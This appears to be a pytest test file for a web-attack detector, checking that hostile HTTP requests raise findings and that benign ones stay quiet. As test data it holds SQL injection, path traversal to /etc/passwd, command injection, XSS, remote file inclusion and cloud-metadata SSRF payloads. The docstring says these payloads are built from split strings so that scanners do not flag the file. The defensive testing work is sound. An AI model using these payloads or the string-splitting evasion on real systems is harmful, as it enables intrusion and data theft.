"""Attacks on websites are found in what clients ask for; what looks like them stays quiet.

What an attacker would send is put together here at run time, so that no scanner takes this file for an attack.
"""

from __future__ import annotations

from urllib.parse import quote

import pytest

from detectors.contract.finding import Severity
from detectors.web_attack import WebAttack
from tests.traffic_factories import (
    FAR,
    HOME,
    alarms_of,
    facts_of,
    make_flows,
    make_http,
    make_opening,
    make_sign,
    make_traffic,
)

QUOTE = chr(39)
TAG = "<" + "scr" + "ipt>"
UNION = "uni" + "on sel" + "ect"
CLIMB = "../" * 4

ATTACKS = {
    "sql_union": f"/shop?id=1{QUOTE} {UNION} 1,2,3 --",
    "sql_always_true": f"/shop?id=1{QUOTE} or {QUOTE}0{QUOTE}={QUOTE}0",
    "sql_inner_names": "/shop?id=1 and 2 in (select table_name from information" + "_schema.tables)",
    "sql_second_command": f"/shop?id={QUOTE};drop" + " table users",
    "sql_question": "/shop?browse=/*select" + " * from users",
    "path_climb": f"/show?page={CLIMB}etc/hosts",
    "path_to_secret": "/show?page=../etc/pass" + "wd",
    "system_file": "/show?page=/etc/" + "passwd",
    "system_command": "/ping?host=127.0.0.1;" + "cat /tmp/x",
    "command_program": "/scripts/x/win" + "nt/system32/cmd" + ".exe?/c+dir",
    "hidden_way_in": "/uploads/picture.php?cmd=" + "whoami",
    "php_code": "/index.php?page=php" + "://input",
    "script_in_value": f"/find?q={TAG}x()",
    "server_expression": "/find?q=%{(#_member" + "Access=1)}",
    "secret_file": "/.env",
    "foreign_program": "/index.php?page=http://192.0.2.9/x.txt?",
    "name_cut_off": "/show?page=news%00.html",
    "answer_split": "/go?to=x%0d%0aSet-Cookie: a=b",
    "overfilled": "/" + "A" * 1_200,
    "inner_address": "/fetch?u=http://169.254" + ".169.254/latest",
}


def judge(*exchanges, **changes):
    return alarms_of(WebAttack(), make_traffic(make_flows(1), http=list(exchanges), **changes))


@pytest.mark.parametrize("sign", ATTACKS)
def test_an_attack_in_the_target_is_found(sign):
    (finding,) = judge(make_http(quote(ATTACKS[sign], safe="/?=&:;.,*#%+")))
    assert facts_of(finding)[f"sign_{sign}"] is True
    assert facts_of(finding)["other_side"] == FAR
    assert (finding.subject.name, finding.severity) == (HOME, Severity.MEDIUM)


def test_an_attack_coded_twice_is_found():
    (finding,) = judge(make_http(quote(quote(ATTACKS["sql_union"], safe=""), safe="")))
    assert "sign_sql_union" in facts_of(finding)


def test_an_attack_in_a_form_is_found():
    body = ("name=" + quote(f"{QUOTE};show" + " databases #")).encode()
    (finding,) = judge(make_http("/list.php", method="POST", body_head=body, body_bytes=len(body)))
    assert "sign_sql_second_command" in facts_of(finding)


def test_an_answer_that_gave_way_makes_it_serious():
    answer = b"root:x" + b":0:0:root:/root:/bin/sh"
    (finding,) = judge(make_http(f"/show?page={CLIMB}etc/pass" + "wd", answer_head=answer))
    assert finding.severity == Severity.HIGH
    assert finding.techniques == ("T1190",)


def test_many_attacks_by_one_computer_are_one_finding():
    exchanges = [make_http(ATTACKS["sql_union"], record=number, at_s=1_000.0 + number) for number in range(1, 41)]
    (finding,) = judge(*exchanges)
    assert facts_of(finding)["times"] == 40
    assert finding.records == tuple(range(1, 41))


def test_a_program_that_tries_out_websites_is_found_by_its_name():
    (finding,) = judge(make_http("/", user_agent="Mozilla/5.00 (Nik" + "to/2.1.6)"))
    assert "sign_tester_program" in facts_of(finding)


def test_guessing_hidden_pages_is_found_and_a_broken_site_is_not():
    guesses = [make_http(f"/backup{number}.zip", status=404) for number in range(25)]
    (finding,) = judge(*guesses)
    assert "sign_page_guessing" in facts_of(finding)
    assert judge(*guesses[:10]) == []
    assert judge(*guesses, *(make_http(f"/page{number}") for number in range(60))) == []


def test_a_request_inside_a_request_is_found():
    body = b"x\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n"
    mail = {"content-type": "message/rfc822"}
    (finding,) = judge(make_http("/first", method="POST", body_head=body, headers=mail))
    assert "sign_request_in_request" in facts_of(finding)
    report = {"content-type": "multipart/mixed; boundary=x"}
    assert judge(make_http("/batch", method="POST", body_head=body, headers=report)) == []


def test_request_lines_broken_on_purpose_are_found():
    odd = b"<X> / HTTP/1.1\r\nHost: a\r\n\r\n"
    minus = b"GET / HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n"
    for client, sign in ((odd, "sign_odd_method"), (minus, "sign_odd_length")):
        (finding,) = judge(openings=[make_opening(client)])
        assert sign in facts_of(finding)
    assert judge(openings=[make_opening(b"GET / HTTP/1.1\r\nContent-Length: 1\r\n\r\nx")]) == []


def test_a_request_that_the_reader_of_http_refused_is_found_by_its_signs_of_intent():
    odd = make_sign("odd_request", is_from_client=True, head=b"<X> / HTTP/1.1\r\nHost: a\r\n")
    (finding,) = judge(signs=[odd])
    assert facts_of(finding)["examples"] == ["<X> / HTTP/1.1"]
    assert judge(signs=[make_sign("odd_request", is_from_client=True, head=b"SUBSCRIBE / HTTP/1.1\r\n")]) == []


@pytest.mark.parametrize(
    "target",
    [
        "/search?q=select+a+new+phone+from+our+shop",
        "/search?q=black+and+white+or+colour",
        "/search?q=rock+and+roll+1970",
        "/news/2024/05/o%27brien-and-sons",
        "/docs/../images/logo.png",
        "/cart?cmd=login&id=17",
        "/p.php?c=shoes;color=red",
        "/list?filter=(price%3E10)&sort=name|asc",
        "/ads?u=http%3A%2F%2Fexample.com%2F%3Fa%3D1%26b%3D2&cat=dogs",
        "/wiki/Script_(disambiguation)",
        "/api?where=%7B%22id%22%3A1%7D&x=%24%7Bname%7D",
        "/t?id=ls&type=dir&sh=1",
        "/graphql?query=%7B%0A%20user%20%7B%0A%20%20id%0A%20%20name%0A%20%7D%0A%7D",
        "/list?fields=name|id|type",
        "/odata?$select=name;$orderby=id;id",
        "/where?q=STATUS = 1 and TYPE = 2",
        "/query?q=select * from measurements",
        "/index.php?c=type&a=dir",
        "/announce?info_hash=%12%ab%00&peer_id=x",
        "/alive?cmd=ping",
        "/image?url=http://pictures.example.org/cat.jpg",
        "/announce?info_hash=%12%00%ab%00%ff&port=1",
        "/.well-known/acme-challenge/abc",
        "/a.gif?v=1&r=%5B1%2C2%5D;ord=12345?",
    ],
)
def test_ordinary_addresses_stay_quiet(target):
    assert judge(make_http(target)) == []


def test_a_page_written_in_a_form_stays_quiet():
    body = quote("<p>Hello <img src=a.png> <b>world</b></p>").encode()
    assert judge(make_http("/save", method="POST", body_head=b"text=" + body)) == []


def test_answers_alone_are_no_attack():
    assert judge(make_http("", method="", answer_head=b"You have an error in your SQL syntax")) == []


def test_a_form_that_hands_over_a_command_is_found_and_a_word_for_an_action_is_not():
    (finding,) = judge(make_http("/a.php", method="POST", body_head=b"x=1&cmd=" + b"whoami"))
    assert "sign_command_in_form" in facts_of(finding)
    assert judge(make_http("/a.php", method="POST", body_head=b"cmd=ping&id=4")) == []


def test_paths_inside_a_report_stay_quiet():
    assert judge(make_http("/report", method="POST", body_head=b'{"file": "../../../src/main.js"}')) == []


FORM = {"content-type": "application/x-www-form-urlencoded"}
ALERT = "al" + "ert(1)"
VALUES = {
    "sql_always_true": f"1{QUOTE} or {QUOTE}1{QUOTE}={QUOTE}1",
    "sql_question": f"admin{QUOTE} --",
    "sql_inner_names": f"1{QUOTE} and sle" + "ep(5) #",
    "sql_second_command": "1;dr" + "op table users",
    "system_command": "`" + "id`",
    "system_file": "c:\\" + "boot" + ".ini",
    "script_trial": f"<details open ontoggle={ALERT}>",
    "server_expression": "<%= 7*7 %>",
    "php_code": "data:text/plain;base64," + "PD9waHA",
    "inner_address": "gopher" + "://127.0.0.1/_x",
}


@pytest.mark.parametrize("sign", VALUES)
def test_an_attack_in_a_short_value_is_found_in_addresses_and_in_forms(sign):
    value = quote(VALUES[sign], safe="")
    assert f"sign_{sign}" in facts_of(judge(make_http(f"/find?q={value}"))[0])
    body = f"a=1&q={value}".encode()
    form = make_http("/find", method="POST", body_head=body, body_bytes=len(body), headers=FORM)
    assert f"sign_{sign}" in facts_of(judge(form)[0])


@pytest.mark.parametrize("alone", ["=;id", "=127.0.0.1 && who" + "ami", "=|ls", "=$(hostname)"])
def test_a_command_that_stands_alone_is_found(alone):
    assert "sign_system_command" in facts_of(judge(make_http("/ping?host" + quote(alone, safe="=")))[0])


@pytest.mark.parametrize(
    "text",
    [
        "<p>Hello <img src=a.png> <b>world</b></p>",
        "O'Brien - sons & daughters; cats, dogs -- and more",
        "I'd select one from the list and sleep (well)",
        "a||b && c",
        "order by Friday; drop by for tea",
        "p4ss'w;rd|x$(",
    ],
)
def test_ordinary_words_in_a_form_stay_quiet(text):
    body = f"name=anna&text={quote(text)}".encode()
    assert judge(make_http("/save", method="POST", body_head=body, body_bytes=len(body), headers=FORM)) == []
